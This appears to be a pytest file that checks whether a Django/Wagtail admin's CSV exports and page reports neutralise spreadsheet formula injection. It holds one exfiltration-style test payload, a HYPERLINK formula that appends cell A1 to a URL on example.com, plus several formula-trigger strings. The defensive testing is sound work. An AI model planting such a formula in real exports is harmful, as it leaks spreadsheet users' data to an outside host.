"""CSV exports write text that a spreadsheet would run as a formula (= + - @, tab, CR) as
plain text; numbers stay numbers. Every admin listing's CSV export goes through
common.exports (Wagtail's XLSX export already stores such cells as text)."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest

from common.admin_mixins import ScopedIndexView
from common.exports import neutralise_cell
from estates.models import Compound, Unit
from tests.factories import make_compound, make_user

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.com/x?leak="&A1,"点击查看")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+86 139", "'+86 139"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("开化街道", "开化街道"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_text_cells(value, expected):
    assert neutralise_cell(value) == expected


@pytest.mark.parametrize(
    "value", [None, -5, Decimal("-12.50"), -0.5, True, datetime.date(2026, 3, 2)]
)
def test_non_text_cells_are_left_alone(value):
    assert neutralise_cell(value) is value


def export_rows(view, queryset) -> list[list[str]]:
    text = b"".join(view.stream_csv(queryset)).decode()
    return list(csv.reader(io.StringIO(text)))


def test_listing_csv_export_neutralises_cells(tree):
    compound = make_compound(region=tree.communities[0], name=FORMULA, units=0)
    Compound.objects.filter(pk=compound.pk).update(address="@开化路1号")
    view = ScopedIndexView(model=Compound, list_export=["name", "address", "is_red_property"])
    header, row = export_rows(view, Compound.objects.filter(pk=compound.pk))
    assert header == ["小区名称", "地址", "红色物业"]
    assert row == ["'" + FORMULA, "'@开化路1号", "False"]


def test_numbers_keep_their_sign(tree):
    unit = Unit.objects.filter(building__compound=tree.compounds[0]).first()
    Unit.objects.filter(pk=unit.pk).update(room="-101")
    view = ScopedIndexView(model=Unit, list_export=["room", "exclusive_area"])
    _header, row = export_rows(view, Unit.objects.filter(pk=unit.pk))
    assert row == ["'-101", str(unit.exclusive_area)]


# ------------------------------------------------- Wagtail's page reports


@pytest.fixture
def formula_page(db):
    """A live page whose title and last publisher's name a spreadsheet would run."""
    from wagtail.models import Page

    publisher = make_user("formula_editor", is_superuser=True, first_name="=2+3", last_name="@x")
    page = Page.objects.filter(depth=2).first().specific
    page.title = FORMULA
    page.save_revision(user=publisher).publish(user=publisher)
    page.refresh_from_db()
    return page, publisher


def report_csv(client, url: str) -> str:
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return b"".join(response.streaming_content).decode()


def test_aging_pages_report_csv_is_neutralised(client, formula_page):
    _page, publisher = formula_page
    client.force_login(publisher)
    text = report_csv(client, "/admin/reports/aging-pages/")
    cells = {cell for row in csv.reader(io.StringIO(text)) for cell in row}
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_locked_pages_report_csv_is_neutralised(client, formula_page):
    page, publisher = formula_page
    page.locked = True
    page.locked_by = publisher
    page.locked_at = page.last_published_at
    page.save()
    client.force_login(publisher)
    text = report_csv(client, "/admin/reports/locked/")
    cells = {cell for row in csv.reader(io.StringIO(text)) for cell in row}
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_report_permissions_are_unchanged(client, formula_page):
    """The neutralised reports are Wagtail's own views: without page permissions, no report."""
    user = make_user("no_pages", is_staff=True)
    client.force_login(user)
    assert client.get("/admin/reports/aging-pages/", {"export": "csv"}).status_code in (302, 403)
